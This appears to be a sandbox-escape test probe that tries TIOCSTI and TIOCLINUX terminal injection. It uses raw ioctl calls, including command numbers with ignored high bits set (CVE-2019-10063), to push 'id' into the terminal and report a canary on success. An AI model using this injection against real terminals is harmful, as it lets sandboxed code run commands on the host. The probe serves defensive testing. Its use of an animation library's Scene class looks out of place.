"""Types into the terminal (TIOCSTI), plainly and with bits set that the kernel does not look at (CVE-2019-10063).

title: no typing into terminals
kind: terminal
canary: the terminal
quick: yes
control: no (this kernel lets only root type: dev.tty.legacy_tiocsti is off)
"""
import ctypes, os
from manim import Scene

HOST = {}

class Attack(Scene):
    def construct(self):
        libc = ctypes.CDLL(None, use_errno=True)
        numbers = [0, 1, 2, *HOST["descriptors"]]
        for path in ("/dev/tty", HOST["terminal"], "/dev/console"):
            try:
                numbers.append(os.open(path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK))
            except OSError as error:
                print(error)
        for number in numbers:
            for command in (0x5412, 0x1_0000_5412, 0xFFFF_FFFF_0000_5412, 0x541C, 0x1_0000_541C):
                for letter in b"id\n":
                    if libc.syscall(16, number, ctypes.c_ulong(command), bytes([letter])) == 0:
                        print(HOST["bite"])
